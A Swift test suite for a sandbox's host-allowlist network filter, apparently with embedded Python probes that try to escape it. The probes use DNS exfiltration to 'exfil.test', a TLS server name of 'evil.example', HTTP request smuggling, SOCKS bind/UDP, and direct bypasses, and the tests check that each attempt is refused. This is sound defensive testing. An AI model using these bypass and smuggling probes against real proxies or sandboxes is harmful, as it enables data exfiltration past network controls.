import Foundation
import Testing

/// The network by name (`run --allow-host`), as the hostile command sees it:
/// every route out that users of other sandboxes found (--noproxy, a port
/// rule, DNS, tools ignoring the proxy variables, a TLS name differing from
/// the CONNECT host, UDP) refused, the allowed host reached. Servers are the
/// test's own, on the host's loopback; nothing here reaches the internet.
@Suite(.serialized) struct NetworkByNameCLITests {
    static let app = "com.example.egress"
    static let users: [uid_t?] = StagedGrantsCLITests.users

    /// A server on the host: answers each connection's first request with
    /// "ok <port>" and records every byte each connection sent.
    final class Server: @unchecked Sendable {
        let fd: Int32
        let port: UInt16
        private let lock = NSLock()
        private var _received: [[UInt8]] = []
        var received: [[UInt8]] { lock.withLock { _received } }
        var bytes: Int { received.reduce(0) { $0 + $1.count } }

        init(address: String = "127.0.0.1") throws {
            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
            var on: Int32 = 1
            setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, socklen_t(4))
            var sin = sockaddr_in()
            sin.sin_family = sa_family_t(AF_INET)
            inet_pton(AF_INET, address, &sin.sin_addr)
            let bound = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
            try #require(bound == 0 && listen(fd, 64) == 0)
            var length = socklen_t(MemoryLayout<sockaddr_in>.size)
            _ = withUnsafeMutablePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
            self.fd = fd
            port = UInt16(bigEndian: sin.sin_port)
            let port = self.port
            Thread { [self] in
                while true {
                    let client = accept(fd, nil, nil)
                    if client < 0 { if errno == EINTR { continue } else { return } }
                    _ = fcntl(client, F_SETFD, FD_CLOEXEC)
                    Thread { [self] in serve(client, port: port) }.start()
                }
            }.start()
        }

        private func serve(_ client: Int32, port: UInt16) {
            var timeout = timeval(tv_sec: 5, tv_usec: 0)
            setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
            var got: [UInt8] = []
            var buffer = [UInt8](repeating: 0, count: 65536)
            var answered = false
            while true {
                let n = read(client, &buffer, buffer.count)
                if n <= 0 { break }
                got += buffer[0..<n]
                lock.withLock { _received.append(Array(buffer[0..<n])) }
                if !answered, got.count >= 4, got.suffix(4) == Array("\r\n\r\n".utf8) {
                    answered = true
                    let body = "ok \(port)\n"
                    let reply = "HTTP/1.1 200 OK\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"
                    _ = reply.withCString { write(client, $0, strlen($0)) }
                    shutdown(client, Int32(SHUT_WR))
                }
            }
            close(client)
        }

        deinit { shutdown(fd, Int32(SHUT_RDWR)); close(fd) }
    }

    /// The machine's own name, as the acceptance check uses it, when it resolves to loopback.
    static let hostName: String? = {
        var name = [CChar](repeating: 0, count: 256)
        guard gethostname(&name, 255) == 0 else { return nil }
        let text = String(decoding: name.prefix { $0 != 0 }.map { UInt8(bitPattern: $0) }, as: UTF8.self)
        guard let resolved = try? CLI.program("/usr/bin/getent", ["ahostsv4", text]), resolved.stdout.hasPrefix("127.") else { return nil }
        return text
    }()

    /// An IPv4 address of the host's that is not loopback: what a command
    /// would reach directly without its own namespace.
    static let outsideAddress: String? = {
        guard let shown = try? CLI.program("/usr/bin/hostname", ["-I"]) else { return nil }
        return shown.stdout.split(separator: " ").map(String.init).first { $0.contains(".") && !$0.hasPrefix("127.") }
    }()

    /// `python3 -c script` in the sandbox, with `options`, as `user`.
    static func python(_ script: String, _ options: [String], as user: uid_t? = nil, home: CLI.Home = CLI.Home()) throws -> CLI.Result {
        if user != nil { _ = try CLI.program("/bin/chown", ["-R", "65534:65534", home.path]) }
        let arguments = ["run", "--app", app] + options + ["--", "/usr/bin/python3", "-c", script]
        if user == nil { return try CLI.run(arguments, home: home) }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: StagedGrantsCLITests.nobody[0])
        process.arguments = Array(StagedGrantsCLITests.nobody.dropFirst()) + [CLI.binary] + arguments
        process.environment = home.environment
        process.currentDirectoryURL = URL(fileURLWithPath: home.path)
        let out = Pipe(), err = Pipe()
        process.standardOutput = out
        process.standardError = err
        process.standardInput = FileHandle.nullDevice
        try process.run()
        let (stdout, stderr) = try readOutputs(out, err)
        process.waitUntilExit()
        return CLI.Result(status: process.terminationStatus, stdout: String(decoding: stdout, as: UTF8.self), stderr: String(decoding: stderr, as: UTF8.self))
    }

    /// Python helpers every script starts with: each probe prints one `name=value` line.
    static let prelude = """
    import os, socket, struct, ssl, sys, urllib.request
    def out(name, value): print(f"{name}={value}", flush=True)
    def fetch(url, proxy=True):
        try:
            handlers = [] if proxy else [urllib.request.ProxyHandler({})]
            return urllib.request.build_opener(*handlers).open(url, timeout=5).read().decode().strip()
        except urllib.error.HTTPError as e: return f"http {e.code}"
        except Exception as e: return f"error {type(e).__name__}"
    def raw(port, data, read=True):
        s = socket.create_connection(("127.0.0.1", port), timeout=5); s.sendall(data)
        if not read: return s
        got = b""
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk: break
                got += chunk
        except Exception: pass
        s.close(); return got
    def dns(name, qtype):
        q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack(">HH", qtype, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("127.0.0.1", 53))
        r = s.recv(4096); return (r[3] & 15, struct.unpack(">H", r[6:8])[0], r[-4:])

    """

    static func lines(_ result: CLI.Result) -> [String: String] {
        var found: [String: String] = [:]
        for line in result.stdout.split(separator: "\n") {
            guard let equals = line.firstIndex(of: "=") else { continue }
            found[String(line[..<equals])] = String(line[line.index(after: equals)...])
        }
        return found
    }

    @Test(arguments: users)
    func theAllowedHostIsReachedByNameOnEveryRoute(user: uid_t?) throws {
        let server = try Server()
        let name = Self.hostName ?? "allowed.test"
        var options = ["--allow-host", "\(name):\(server.port)"]
        if Self.hostName == nil { options += ["--resolve", "\(name):127.0.0.1"] }
        let script = Self.prelude + """
        url = "http://\(name):\(server.port)/index"
        out("proxy", fetch(url))
        out("direct", fetch(url, proxy=False))
        s = raw(1080, b"\\x05\\x01\\x00", read=False); s.recv(2)
        host = b"\(name)"; s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack(">H", \(server.port))); r = s.recv(10)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); out("socks", s.recv(4096).split(b"\\r\\n\\r\\n")[-1].decode().strip())
        c = raw(3128, b"CONNECT \(name):\(server.port) HTTP/1.1\\r\\nHost: \(name)\\r\\n\\r\\n", read=False); c.recv(4096)
        c.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); out("connect", c.recv(4096).split(b"\\r\\n\\r\\n")[-1].decode().strip())
        """
        let result = try Self.python(script, options, as: user)
        let found = Self.lines(result)
        let expected = "ok \(server.port)"
        #expect(found["proxy"] == expected && found["direct"] == expected && found["socks"] == expected && found["connect"] == expected, "\(result)")
        #expect(result.status == 0, "\(result)")
    }

    @Test(arguments: users)
    func everyRouteRefusesAHostOrPortNotListed(user: uid_t?) throws {
        let allowed = try Server(), other = try Server()
        let outside = try Self.outsideAddress.map { try Server(address: $0) }
        let options = ["--allow-host", "allowed.test:\(allowed.port)", "--resolve", "allowed.test:127.0.0.1", "--explain"]
        let script = Self.prelude + """
        out("other-port-proxy", fetch("http://allowed.test:\(other.port)/"))
        out("other-name-proxy", fetch("http://other.test:\(other.port)/"))
        out("literal-proxy", raw(3128, b"GET http://127.0.0.1:\(other.port)/ HTTP/1.1\\r\\n\\r\\n").split(b"\\r\\n")[0].decode())
        # a partial SOCKS greeting, then gone; and a refused CONNECT with bytes after it
        raw(1080, b"\\x05\\x02", read=False).close(); raw(3128, b"CONNECT other.test:1 HTTP/1.1\\r\\n\\r\\nleftover bytes")
        out("connect-other-port", raw(3128, b"CONNECT allowed.test:\(other.port) HTTP/1.1\\r\\n\\r\\n").split(b"\\r\\n")[0].decode())
        out("connect-literal", raw(3128, b"CONNECT 127.0.0.1:\(other.port) HTTP/1.1\\r\\n\\r\\n").split(b"\\r\\n")[0].decode())
        s = raw(1080, b"\\x05\\x01\\x00", read=False); s.recv(2)
        s.sendall(b"\\x05\\x01\\x00\\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", \(other.port))); out("socks-literal", s.recv(10)[1])
        # --noproxy: the own loopback, and a host address, directly
        out("noproxy-loopback", fetch("http://127.0.0.1:\(other.port)/", proxy=False))
        out("noproxy-outside", fetch("http://\(Self.outsideAddress ?? "192.0.2.1"):\(outside?.port ?? 9)/", proxy=False))
        out("noproxy-name", fetch("http://other.test:\(other.port)/", proxy=False))
        # a Host header naming another host than the URI's
        r = raw(3128, b"GET http://allowed.test:\(allowed.port)/ HTTP/1.1\\r\\nHost: other.test:\(other.port)\\r\\n\\r\\n")
        out("host-header", r.split(b"\\r\\n\\r\\n")[-1].decode().strip())
        """
        let result = try Self.python(script, options, as: user)
        let found = Self.lines(result)
        #expect(found["other-port-proxy"] == "http 403" && found["other-name-proxy"] == "http 403", "\(result)")
        #expect(found["literal-proxy"]?.contains("403") == true, "\(result)")
        #expect(found["connect-other-port"]?.contains("403") == true && found["connect-literal"]?.contains("403") == true, "\(result)")
        #expect(found["socks-literal"] == "2", "SOCKS: not allowed by the ruleset: \(result)")
        #expect(found["noproxy-loopback"]?.hasPrefix("error") == true && found["noproxy-outside"]?.hasPrefix("error") == true, "\(result)")
        #expect(found["noproxy-name"]?.hasPrefix("error") == true, "\(result)")
        #expect(found["host-header"] == "ok \(allowed.port)", "\(result)")
        #expect(other.bytes == 0 && (outside?.bytes ?? 0) == 0, "a host not listed received bytes")
        let sentHost = String(decoding: allowed.received.joined(), as: UTF8.self)
        #expect(sentHost.contains("Host: allowed.test:\(allowed.port)") && !sentHost.contains("other.test"), "\(sentHost)")
        // --explain names each refused host and port, and the key.
        #expect(result.stderr.contains("other.test:\(other.port)") && result.stderr.contains("org.sandboxed-run.network.allowed-hosts"), "\(result)")
    }

    @Test func dnsAnswersAllowedNamesOnlyAndCarriesNothingOut() throws {
        let script = Self.prelude + """
        out("allowed-a", dns("allowed.test", 1))
        out("allowed-aaaa", dns("allowed.test", 28)[:2])
        out("allowed-txt", dns("allowed.test", 16)[:2])
        out("other-a", dns("c2VjcmV0.exfil.test", 1)[:2])
        out("other-txt", dns("c2VjcmV0.exfil.test", 16)[:2])
        try:
            socket.getaddrinfo("exfil.test", 80); out("getaddrinfo", "resolved")
        except socket.gaierror: out("getaddrinfo", "refused")
        """
        let result = try Self.python(script, ["--allow-host", "allowed.test"])
        let found = Self.lines(result)
        #expect(found["allowed-a"] == "(0, 1, b'\\x7fM\\x00\\x01')", "127.77.0.1: \(result)")
        #expect(found["allowed-aaaa"] == "(0, 0)" && found["allowed-txt"] == "(5, 0)", "\(result)")
        #expect(found["other-a"] == "(5, 0)" && found["other-txt"] == "(5, 0)" && found["getaddrinfo"] == "refused", "\(result)")
    }

    @Test func aTlsServerNameOtherThanTheTunnelsHostReachesNothing() throws {
        let server = try Server()
        let options = ["--allow-host", "allowed.test:\(server.port)", "--resolve", "allowed.test:127.0.0.1"]
        let script = Self.prelude + """
        def hello(name):
            c = raw(3128, b"CONNECT allowed.test:\(server.port) HTTP/1.1\\r\\n\\r\\n", read=False); c.recv(4096)
            context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
            try: context.wrap_socket(c, server_hostname=name).close(); return "handshake"
            except Exception as e: return type(e).__name__
        out("evil", hello("evil.example"))
        # an alert record ahead of the ClientHello: the name cannot be read, refused before anything reaches the server
        c = raw(3128, b"CONNECT allowed.test:\(server.port) HTTP/1.1\\r\\n\\r\\n", read=False); c.recv(4096)
        c.sendall(b"\\x15\\x03\\x03\\x00\\x02\\x01\\x00")
        try: out("alert-first", c.recv(10) or "closed")
        except Exception as e: out("alert-first", type(e).__name__)
        out("allowed", hello("allowed.test"))
        """
        let result = try Self.python(script, options)
        let found = Self.lines(result)
        #expect(found["evil"] != nil && found["allowed"] != nil && found["alert-first"] == "closed", "\(result)")
        // Only the ClientHello naming the tunnel's host reached the server.
        let hellos = server.received.filter { $0.first == 0x16 }
        #expect(hellos.count == 1, "\(server.received.map(\.count))")
        #expect(!server.received.contains { $0.first == 0x15 }, "the alert record reached the server")
        #expect(String(decoding: hellos.joined(), as: UTF8.self).contains("allowed.test"))
        #expect(!String(decoding: server.received.joined(), as: UTF8.self).contains("evil.example"))
    }

    @Test func smugglingSocksBindAndUdpAreRefused() throws {
        let server = try Server()
        let options = ["--allow-host", "allowed.test:\(server.port)", "--resolve", "allowed.test:127.0.0.1"]
        let script = Self.prelude + """
        r = raw(3128, b"POST http://allowed.test:\(server.port)/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.test/ HTTP/1.1\\r\\n\\r\\n")
        out("smuggle", r.split(b"\\r\\n")[0].decode())
        r = raw(3128, b"GET http://allowed.test:\(server.port)/ HTTP/1.1\\r\\nConnection: content-length\\r\\nContent-Length: 40\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
        out("unframed", r.split(b"\\r\\n")[0].decode())
        for command, label in [(2, "bind"), (3, "udp")]:
            s = raw(1080, b"\\x05\\x01\\x00", read=False); s.recv(2)
            s.sendall(b"\\x05" + bytes([command]) + b"\\x00\\x03\\x0callowed.test" + struct.pack(">H", \(server.port))); out(label, s.recv(10)[1])
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try: u.sendto(b"x", ("\(Self.outsideAddress ?? "192.0.2.1")", 9)); out("udp-out", "sent")
        except OSError as e: out("udp-out", e.errno)
        for kind, proto, label in [(socket.SOCK_DGRAM, socket.IPPROTO_ICMP, "icmp"), (socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw")]:
            try: socket.socket(socket.AF_INET, kind, proto); out(label, "made")
            except OSError as e: out(label, e.errno)
        """
        let result = try Self.python(script, options)
        let found = Self.lines(result)
        #expect(found["smuggle"]?.contains("400") == true && found["unframed"]?.contains("400") == true, "\(result)")
        #expect(found["bind"] == "7" && found["udp"] == "7", "command not supported: \(result)")
        #expect(found["udp-out"] == "101", "ENETUNREACH: \(result)")
        #expect(found["icmp"] != "made" && found["raw"] != "made", "\(result)")
        #expect(server.bytes == 0, "the smuggled request reached the server")
    }

    @Test func theProxyIsNotReachableFromTheHostAndStallsDoNotHoldTheLauncher() throws {
        let home = CLI.Home()
        // 300 idle connections (beyond the 256 the gateway keeps) and a slow
        // SOCKS greeting held open, then the launcher is told to stop.
        let script = """
        import socket, time
        held = []
        for i in range(300):
            try: held.append(socket.create_connection(("127.0.0.1", 3128), timeout=5))
            except OSError: break
        slow = socket.create_connection(("127.0.0.1", 1080), timeout=5); slow.send(b"\\x05")
        time.sleep(60)
        """
        let (process, out, err) = try CLI.start(
            ["run", "--app", Self.app, "--allow-host", "allowed.test", "--", "/usr/bin/python3", "-c", script], home: home)
        let reading = Thread { _ = try? readOutputs(out, err) }
        reading.start()
        // The command has its connections once it says so; meanwhile the host side tries the proxy's port.
        usleep(3_000_000)
        let probe = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        var sin = sockaddr_in()
        sin.sin_family = sa_family_t(AF_INET)
        sin.sin_port = UInt16(3128).bigEndian
        inet_pton(AF_INET, "127.0.0.1", &sin.sin_addr)
        let connected = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(probe, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
        let refused = errno
        close(probe)
        #expect(connected != 0 && refused == ECONNREFUSED, "the host reached a listener on 3128")
        let start = Date()
        kill(process.processIdentifier, SIGTERM)
        process.waitUntilExit()
        #expect(Date().timeIntervalSince(start) < 10, "the launcher ended \(Date().timeIntervalSince(start)) s after SIGTERM")
    }

    /// A name matched only by a wildcard that resolves to a private or
    /// loopback address (DNS rebinding) is refused; the exact name is not.
    @Test func aWildcardNeverLeadsToAnInternalAddress() throws {
        let server = try Server()
        let options = ["--allow-host", "*.wild.test:\(server.port)", "--allow-host", "exact.test:\(server.port)",
                       "--resolve", "a.wild.test:127.0.0.1", "--resolve", "exact.test:127.0.0.1"]
        let script = Self.prelude + """
        out("wildcard", fetch("http://a.wild.test:\(server.port)/"))
        out("exact", fetch("http://exact.test:\(server.port)/"))
        """
        let result = try Self.python(script, options)
        let found = Self.lines(result)
        #expect(found["wildcard"] == "http 403" && found["exact"] == "ok \(server.port)", "\(result)")
        #expect(server.received.count == 1, "only the exact name's request arrived: \(server.received.count)")
    }

    /// Parallel downloaders: 50 blocking connects to the proxy at once all
    /// connect (the supervisor performs each; EAGAIN would break pip and npm),
    /// and a refused SOCKS request or a greeting then gone leaves the launcher serving.
    @Test func manyConnectsAtOnceAndRefusedSocksKeepTheLauncherServing() throws {
        let server = try Server()
        let options = ["--allow-host", "allowed.test:\(server.port)", "--resolve", "allowed.test:127.0.0.1"]
        let script = Self.prelude + """
        import threading
        errors = []
        held = []
        def one():
            try: held.append(socket.create_connection(("127.0.0.1", 3128), timeout=10))
            except OSError as e: errors.append(e.errno)
        threads = [threading.Thread(target=one) for _ in range(50)]
        for t in threads: t.start()
        for t in threads: t.join()
        out("connected", len(held)); out("errors", sorted(set(errors)))
        for s in held: s.close()
        r = subprocess = __import__("subprocess").run(["curl", "-sS", "-m", "5", "--socks5-hostname", "127.0.0.1:1080", "http://other.test:\(server.port)/"], capture_output=True)
        out("curl-socks-refused", r.returncode != 0)
        s = raw(1080, b"\\x05\\x01\\x00", read=False); s.recv(2); s.close()
        out("after", fetch("http://allowed.test:\(server.port)/"))
        """
        let result = try Self.python(script, options)
        let found = Self.lines(result)
        #expect(found["connected"] == "50" && found["errors"] == "[]", "\(result)")
        #expect(found["curl-socks-refused"] == "True" && found["after"] == "ok \(server.port)", "\(result)")
        #expect(result.status == 0, "\(result)")
    }

    @Test func badListsAndTheHostViewAreRefusedBeforeAnythingRuns() throws {
        for (options, says) in [
            (["--allow-host", "api.example.com:1e300"], "1 to 65535"),
            (["--allow-host", "*"], "wildcard"),
            (["--allow-host", "localhost:8000"], "own loopback"),
            (["--allow-host", "api.example.com", "--view", "host"], "private view"),
            (["--resolve", "api.example.com:127.0.0.1"], "allowed-hosts list"),
            (["--allow-host", "api.example.com", "--resolve", "other.example.com:127.0.0.1"], "not an allowed host"),
        ] {
            let result = try CLI.run(["run", "--app", Self.app] + options + ["--", "/bin/true"])
            #expect(result.status != 0 && result.stderr.contains(says), "\(options): \(result)")
        }
    }
}
